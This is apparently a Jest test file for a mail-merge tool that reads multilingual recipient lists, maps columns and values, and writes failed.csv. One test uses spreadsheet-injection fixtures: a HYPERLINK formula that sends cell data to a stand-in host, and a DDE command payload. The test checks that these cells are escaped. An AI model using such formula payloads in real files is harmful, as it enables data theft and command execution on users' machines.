import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { generate } from '../../src/batch/generate';
import { validate } from '../../src/batch/validate';
import { readRecipients } from '../../src/data/recipients';
import { FIELD_WORDS, GENDER_WORDS, GROUP_WORDS, LANGUAGE_WORDS } from '../../src/data/words';
import { LetterMergeError } from '../../src/errors';
import { ROOT, campaignCopy, cli, tempDir, writeCsv } from '../helpers';
import { makeXlsx } from '../helpers/xlsx';

/** The core columns' headers as six exports would write them, one per language. */
const HEADERS: Record<string, string[]> = {
  en: ['Contact ID', 'Lang', 'Stakeholder Group', 'Sex', 'Honorific', 'First Name', 'Surname', 'Job Title', 'Company', 'Postal Address', 'COUNTRY', 'E-mail Address'],
  es: ['Identificador', 'Idioma', 'Grupo', 'Sexo', 'Tratamiento', 'Nombre', 'Apellidos', 'Cargo', 'Organización', 'Dirección', 'País', 'Correo electrónico'],
  fr: ['Identifiant', 'Langue', 'Groupe', 'Sexe', 'Civilité', 'Prénom', 'Nom', 'Fonction', 'Organisme', 'Adresse', 'Pays', 'Courriel'],
  ru: ['Идентификатор', 'Язык', 'Группа', 'Пол', 'Обращение', 'Имя', 'Фамилия', 'Должность', 'Организация', 'Адрес', 'Страна', 'Электронная почта'],
  zh: ['编号', '语言', '类别', '性别', '称谓', '名', '姓', '职务', '机构', '地址', '国家', '电子邮件'],
  ar: ['المعرف', 'اللغة', 'الفئة', 'الجنس', 'اللقب', 'الاسم الأول', 'اسم العائلة', 'المنصب', 'المؤسسة', 'العنوان', 'البلد', 'البريد الإلكتروني'],
};
const FIELDS = ['id', 'language', 'group', 'gender', 'title', 'first_name', 'last_name', 'position', 'organization', 'address', 'country', 'email'];

/** A row in the order of FIELDS. */
function cells(v: Partial<Record<string, string>>): string[] {
  const base: Record<string, string> = { id: 'r1', language: 'en', group: 'academia', gender: 'female', title: 'Dr', first_name: 'Ada', last_name: 'Quinlan', position: 'Professor', organization: 'Example University', address: '1 College Road', country: 'Utopia', email: 'ada@example.edu', ...v } as Record<string, string>;
  return FIELDS.map((f) => base[f]);
}

const header = (names: string[]) => names.map((h) => (/[",]/.test(h) ? `"${h.replace(/"/g, '""')}"` : h)).join(',');

describe('recipient lists as they come', () => {
  let t: ReturnType<typeof tempDir>;
  beforeEach(() => (t = tempDir()));
  afterEach(() => t.cleanup());

  it.each(Object.keys(HEADERS))('reads an export with headers in %s, and the words of its values', async (lang) => {
    const values: Record<string, [string, string, string]> = {
      en: ['English', 'Private Sector', 'Mr'],
      es: ['Español', 'Gobierno', 'Mujer'],
      fr: ['Français', 'Société civile', 'Mme'],
      ru: ['Русский', 'Гражданское общество', 'Г-н'],
      zh: ['中文', '学术界', '女士'],
      ar: ['العربية', 'المنظمات الدولية', 'السيد'],
    };
    const [language, group, gender] = values[lang];
    const csv = writeCsv(t.dir, `${lang}.csv`, [cells({ language, group, gender, email: 'x@example.org' }), cells({ id: 'r2', language: `${lang}-XX`, group: 'academia', gender: '' })], header(HEADERS[lang]));
    const { recipients, problems, columns } = await readRecipients(csv);
    expect(problems).toEqual([]);
    expect(columns).toEqual(FIELDS);
    const [a, b] = recipients;
    expect(a.languages).toEqual([lang]);
    expect(b.languages).toEqual([lang]);
    expect(a.group).toBe({ en: 'private-sector', es: 'government', fr: 'civil-society', ru: 'civil-society', zh: 'academia', ar: 'international-organization' }[lang]);
    expect(a.gender).toBe({ en: 'male', es: 'female', fr: 'female', ru: 'male', zh: 'female', ar: 'male' }[lang]);
    expect(a.email).toBe('x@example.org');
    // The cells as typed stay in the fields, for failed.csv and for templates that print them.
    expect(a.fields.group).toBe(group);
  });

  it('matches names whatever their case, spaces, hyphens, underscores and accents', async () => {
    const names = ['ID', 'LANGUAGE', 'group', 'Gender', 'title', 'First Name', 'last-name', 'Position', 'Organisation', 'ADDRESS', 'Pays', 'E-Mail'];
    const csv = writeCsv(t.dir, 'a.csv', [cells({})], header(names));
    const { columns, recipients } = await readRecipients(csv);
    expect(columns).toEqual(FIELDS);
    expect(recipients[0].last_name).toBe('Quinlan');
    const folded = ['I_D', 'Lang', 'Grupo', 'sexe', 'Titre', 'first__name', 'LAST NAME', 'cargo', 'organización', 'Direccion', 'PAÍS', 'e_mail'];
    const r = await readRecipients(writeCsv(t.dir, 'b.csv', [cells({})], header(folded)));
    expect(r.columns).toEqual(FIELDS);
    expect(r.recipients[0].email).toBe('ada@example.edu');
  });

  it('refuses two columns that would be read as one field, naming both; a mapping settles it', async () => {
    const names = [...FIELDS.slice(0, 11), 'E-mail', 'Correo electrónico'];
    const csv = writeCsv(t.dir, 'two.csv', [[...cells({}), 'other@example.org']], header(names));
    await expect(readRecipients(csv)).rejects.toThrow(/columns "E-mail" and "Correo electrónico" would both be read as email/);
    const err = await readRecipients(csv).catch((e: LetterMergeError) => e);
    expect((err as LetterMergeError).code).toBe('DUPLICATE_COLUMN');
    expect((err as LetterMergeError).hint).toMatch(/--map email="E-mail"/);
    const mapped = await readRecipients(csv, { mapping: { columns: { email: 'Correo electrónico' } } });
    expect(mapped.recipients[0].email).toBe('other@example.org');
    // The other one reaches the templates under its own name.
    expect(mapped.recipients[0].fields['E-mail']).toBe('ada@example.edu');
    expect(mapped.columns).toContain('E-mail');
  });

  it('reads a mapped column as its field, keeps the others under their own names, and says "did you mean" for a header the file lacks', async () => {
    const names = [...FIELDS.slice(0, 11), 'Work mail', 'Telephone (office)'];
    const csv = writeCsv(t.dir, 'm.csv', [[...cells({}), '+41 22 730 5111']], header(names));
    await expect(readRecipients(csv)).rejects.toThrow(/missing column: email/);
    const hint = ((await readRecipients(csv).catch((e) => e)) as LetterMergeError).hint ?? '';
    expect(hint).toMatch(/If "Work mail" is email, say so with --map email="Work mail"/);
    const r = await readRecipients(csv, { mapping: { columns: { email: 'Work mail' } } });
    expect(r.recipients[0].email).toBe('ada@example.edu');
    expect(r.recipients[0].fields['Telephone (office)']).toBe('+41 22 730 5111');
    const wrong = (await readRecipients(csv, { mapping: { columns: { email: 'Work mial' } } }).catch((e: unknown) => e)) as LetterMergeError;
    expect(wrong.message).toBe('the mapping reads email from a column "Work mial", which the file does not have; did you mean "Work mail"?');
  });

  it('fails a row whose value is still unknown, with the nearest value, or both when it is as near to two', async () => {
    const csv = writeCsv(t.dir, 'v.csv', [
      cells({ id: 'a', group: 'Goverment' }),
      cells({ id: 'b', group: 'Organización' }),
      cells({ id: 'c', group: 'Sector' }),
      cells({ id: 'd', group: 'Board' }),
      cells({ id: 'e', language: 'Espagnol;Englsh' }),
      cells({ id: 'f', gender: 'Femme ' }),
      cells({ id: 'g', gender: 'x' }),
    ], header(FIELDS));
    const { problems } = await readRecipients(csv);
    const msg = Object.fromEntries(problems.map((p) => [p.id, p.message]));
    expect(msg.a).toMatch(/^unknown group "Goverment" \(did you mean "government"\? known: /);
    expect(msg.b).toMatch(/^unknown group "Organización" \(did you mean "civil-society" or "international-organization"\? /);
    expect(msg.c).toMatch(/^unknown group "Sector" \(did you mean "private-sector"\? /);
    expect(msg.d).toMatch(/^unknown group "Board" \(known: government, /);
    expect(msg.e).toMatch(/^unknown language "Englsh" \(did you mean "en"\? /);
    expect(msg.f).toBeUndefined();
    expect(msg.g).toMatch(/^unknown gender "x" \(known: female or male/);
    // A value map says what a word means; the row is then read.
    const mapped = await readRecipients(csv, { mapping: { values: { group: { goverment: 'government', 'Organización': 'international-organization', Sector: 'private-sector', board: 'academia' }, language: { englsh: 'en' }, gender: { X: 'none' } } } });
    expect(mapped.problems).toEqual([]);
    expect(mapped.recipients.map((r) => r.group)).toEqual(['government', 'international-organization', 'private-sector', 'academia', 'academia', 'academia', 'academia']);
    expect(mapped.recipients.find((r) => r.id === 'e')!.languages).toEqual(['es', 'en']);
    expect(mapped.recipients.find((r) => r.id === 'g')!.gender).toBe('');
  });

  it('reads a workbook the same way', async () => {
    const file = path.join(t.dir, 'people.xlsx');
    writeFileSync(file, makeXlsx([{ name: 'Contactos', rows: [HEADERS.es, cells({ language: 'es-ES', group: 'Sector privado', gender: 'Hombre' })] }]));
    const { recipients, columns } = await readRecipients(file);
    expect(columns).toEqual(FIELDS);
    expect(recipients[0]).toMatchObject({ languages: ['es'], group: 'private-sector', gender: 'male' });
  });

  it('validate says how each column and word was read; --suggest writes the block, guesses marked, that makes the file read', async () => {
    const names = ['Identificador', 'Idioma', 'Sector', 'Sexo', 'Tratamiento', 'Nombre', 'Apelidos', 'Cargo', 'Organización', 'Dirección', 'País', 'Correo electrónico'];
    const csv = writeCsv(t.dir, 'contactos.csv', [
      cells({ id: 'c1', language: 'Español', group: 'Gobierno', gender: 'F' }),
      cells({ id: 'c2', language: 'es', group: 'Goverment', gender: 'M' }),
      cells({ id: 'c3', language: 'es', group: 'Organización', gender: 'M' }),
      cells({ id: 'c4', language: 'es', group: 'Organización', gender: 'M' }),
    ], header(names));
    const first = await validate({ csv, suggest: true });
    expect(first.problems.map((p) => p.message)).toEqual(['missing column: last_name']);
    const block = parseYaml(first.suggestion!) as { columns: Record<string, string>; values: { group: Record<string, string> } };
    expect(block.columns).toEqual({ id: 'Identificador', language: 'Idioma', group: 'Sector', gender: 'Sexo', title: 'Tratamiento', first_name: 'Nombre', last_name: 'Apelidos', position: 'Cargo', organization: 'Organización', address: 'Dirección', country: 'País', email: 'Correo electrónico' });
    expect(first.suggestion).toMatch(/last_name: "Apelidos" +# GUESSED/);
    expect(first.suggestion).toMatch(/id: "Identificador" +# a word for it/);
    // A guess is proposed; a word as near to two groups is left for the user to choose.
    expect(block.values.group).toEqual({ Goverment: 'government' });
    expect(first.suggestion).toContain('# "Organización": civil-society or international-organization  (2 rows): as near to each; choose one and remove the #');

    // Pasted into campaign.yaml, with the choice made, the file reads and every word is accounted for.
    const yaml = first.suggestion!.replace('# "Organización": civil-society or international-organization  (2 rows): as near to each; choose one and remove the #', '"Organización": international-organization');
    const dir = campaignCopy(t.dir);
    writeFileSync(path.join(dir, 'campaign.yaml'), `${readFileSync(path.join(dir, 'campaign.yaml'), 'utf8')}\n${yaml}`);
    const second = await validate({ csv, campaign: dir });
    expect(second.problems).toEqual([]);
    expect(second.letters).toBe(4);
    expect(second.columns!.find((c) => c.header === 'Apelidos')).toEqual({ header: 'Apelidos', field: 'last_name', by: 'mapping' });
    expect(second.words).toEqual(
      expect.arrayContaining([
        { field: 'language', word: 'Español', value: 'es', rows: 1 },
        { field: 'group', word: 'Gobierno', value: 'government', rows: 1 },
        { field: 'group', word: 'Organización', value: 'international-organization', rows: 2 },
      ]),
    );
    // On the command line: the notes, and the block on stdout alone.
    const v = await cli(['validate', csv, '--campaign', dir, '--suggest']);
    expect(v.code).toBe(0);
    expect(v.stderr).toContain('note: column "Correo electrónico" read as email (as mapped)');
    expect(v.stderr).toContain('note: group "Organización" read as international-organization (2 rows)');
    expect(parseYaml(v.stdout)).toMatchObject({ columns: { last_name: 'Apelidos' } });
    // A title where the column names should be: no empty block to paste, the problem said.
    const titled = path.join(t.dir, 'titled.csv');
    writeFileSync(titled, `Lista de invitados\n\n${readFileSync(csv, 'utf8')}`);
    const tv = await cli(['validate', titled, '--campaign', dir, '--suggest']);
    expect(tv.code).toBe(3);
    expect(tv.stderr).toMatch(/the columns are named in line 3, not in the first line/);
    expect(tv.stdout).toBe('# Nothing to suggest: no column named in the first row of titled.csv reads as a field of a letter (see the problem above).\n');
  });

  it('says what each word of a cell of several languages was read as, a language named twice included', async () => {
    const csv = writeCsv(t.dir, 'langs.csv', [cells({ id: 'a', language: 'Español, Spanish, en' }), cells({ id: 'b', language: 'fr;fr;Français' })], FIELDS.join(','));
    const v = await validate({ csv });
    expect(v.problems).toEqual([]);
    expect(v.letters).toBe(3);
    // Read by position among the languages once repeats were dropped, "Spanish" was said to be en, and "en" and "Français" nothing.
    expect(v.words.filter((w) => w.field === 'language').sort((x, y) => x.word.localeCompare(y.word))).toEqual([
      { field: 'language', word: 'Español', value: 'es', rows: 1 },
      { field: 'language', word: 'Français', value: 'fr', rows: 1 },
      { field: 'language', word: 'Spanish', value: 'es', rows: 1 },
    ]);
  });

  it('takes --map on the command line over the campaign and the config file, and refuses a field it does not read', async () => {
    const names = [...FIELDS.slice(0, 11), 'Work mail', 'Private mail'];
    const csv = writeCsv(t.dir, 'm.csv', [[...cells({}).slice(0, 11), 'work@example.org', 'home@example.org']], header(names));
    const dir = campaignCopy(t.dir);
    writeFileSync(path.join(dir, 'campaign.yaml'), `${readFileSync(path.join(dir, 'campaign.yaml'), 'utf8')}\ncolumns:\n  email: Work mail\n`);
    const config = path.join(t.dir, 'lm.yaml');
    writeFileSync(config, 'columns:\n  email: Private mail\n');
    const out = path.join(t.dir, 'out');
    const run = async (...extra: string[]) => {
      const r = await cli(['generate', csv, '--campaign', dir, '--out', out, '--jobs', '1', '--json', ...extra]);
      expect(r.code).toBe(0);
      const eml = readFileSync(path.join(out, 'en', 'r1.eml'), 'utf8');
      return /^To: .*<(.*)>/m.exec(eml)![1];
    };
    expect(await run()).toBe('work@example.org');
    expect(await run('--config', config)).toBe('home@example.org');
    expect(await run('--config', config, '--map', 'email=Work mail')).toBe('work@example.org');
    const bad = await cli(['validate', csv, '--map', 'emial=Work mail']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('columns: "emial" is not a field lettermerge reads; did you mean "email"?');
    writeFileSync(config, 'values:\n  group:\n    Gobierno nacional: goverment\n');
    const badConfig = await cli(['validate', csv, '--config', config]);
    expect(badConfig.code).toBe(2);
    expect(badConfig.stderr).toMatch(/lm\.yaml:3: values\.group: "Gobierno nacional" maps to "goverment", which is not a group/);
  });

  it('makes the letters again on --resume when the mapping changes, and keeps them when it does not', async () => {
    const csv = writeCsv(t.dir, 'r.csv', [cells({ id: 'a', group: 'Consejo' }), cells({ id: 'b', group: 'academia' })], header(FIELDS));
    const out = path.join(t.dir, 'out');
    const asGovernment = { values: { group: { Consejo: 'government' } } };
    const first = await generate({ csv, out, jobs: 1, mapping: asGovernment });
    expect(first.produced).toBe(2);
    const same = await generate({ csv, out, jobs: 1, resume: true, mapping: asGovernment });
    expect([same.kept, same.produced]).toEqual([2, 0]);
    const changed = await generate({ csv, out, jobs: 1, resume: true, mapping: { values: { group: { Consejo: 'civil-society' } } } });
    expect(changed.produced).toBe(2);
    expect(changed.byGroup).toEqual({ 'civil-society': 1, academia: 1 });
    // A mapping that reads the file as it was read anyway changes nothing.
    const named = await generate({ csv, out, jobs: 1, resume: true, mapping: { columns: { email: 'email' }, values: { group: { Consejo: 'civil-society' } } } });
    expect([named.kept, named.produced]).toEqual([2, 0]);
  });

  it('keeps the letters when a column matched by its name is then named by the mapping, and makes them again when another column is read', async () => {
    const names = [...FIELDS.slice(0, 11), 'E-mail', 'Private mail'];
    const csv = writeCsv(t.dir, 'k.csv', [[...cells({}).slice(0, 11), 'work@example.org', 'home@example.org']], header(names));
    const out = path.join(t.dir, 'out');
    expect((await generate({ csv, out, jobs: 1 })).produced).toBe(1);
    const same = await generate({ csv, out, jobs: 1, resume: true, mapping: { columns: { email: 'E-mail' } } });
    expect([same.kept, same.produced]).toEqual([1, 0]);
    const other = await generate({ csv, out, jobs: 1, resume: true, mapping: { columns: { email: 'Private mail' } } });
    expect([other.kept, other.produced]).toEqual([0, 1]);
  });

  it('writes failed.csv under the file\'s own headers, ready to read again', async () => {
    const csv = writeCsv(t.dir, 'f.csv', [cells({ id: 'ok' }), cells({ id: 'bad', group: 'Board' })], header(HEADERS.fr));
    const out = path.join(t.dir, 'out');
    const r = await generate({ csv, out, jobs: 1 });
    expect(r.failed).toBe(1);
    const failed = readFileSync(r.failedCsv!, 'utf8');
    expect(failed.split('\r\n')[0]).toBe(`${header(HEADERS.fr)},error`);
    expect(failed).toContain('bad,en,Board');
  });

  it('guards failed.csv cells a spreadsheet would run as a formula, and reads them back as they were', async () => {
    // Text in a workbook (a web form's entries, say) that Excel would run once it is in a CSV.
    const hostile = { first_name: '=HYPERLINK("http://x.example/?"&A1,"Open")', last_name: "'=already quoted", position: '+cmd|\' /C calc\'!A0', organization: '@SUM(1+1)', title: '-Dr' };
    const file = path.join(t.dir, 'list.xlsx');
    writeFileSync(file, makeXlsx([{ name: 'People', rows: [FIELDS, cells({ id: 'ok' }), cells({ id: 'bad', ...hostile, email: 'not an address' })] }]));
    const r = await generate({ csv: file, out: path.join(t.dir, 'out'), jobs: 1 });
    expect(r.failed).toBe(1);
    const failed = readFileSync(r.failedCsv!, 'utf8');
    // No cell of the file begins with a character that starts a formula.
    const rows = failed.trim().split('\r\n').map((l) => l.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(failed).toContain("'=HYPERLINK(");
    expect(failed).toContain("''=already quoted");
    // Read again, once the address is mended, the row is what the workbook held.
    const mended = path.join(t.dir, 'mended.csv');
    writeFileSync(mended, failed.replace('not an address', 'ada@example.edu'));
    const back = (await readRecipients(mended)).recipients[0];
    expect(back.fields).toMatchObject(hostile);
  });

  it('lists every word it accepts in the README', () => {
    const readme = readFileSync(path.join(ROOT, 'README.md'), 'utf8');
    const all = [FIELD_WORDS, GROUP_WORDS, LANGUAGE_WORDS, GENDER_WORDS].flatMap((table) => Object.entries(table).flatMap(([k, words]) => [k, ...words]));
    expect(all.filter((w) => !readme.includes(`\`${w}\``))).toEqual([]);
  });
});
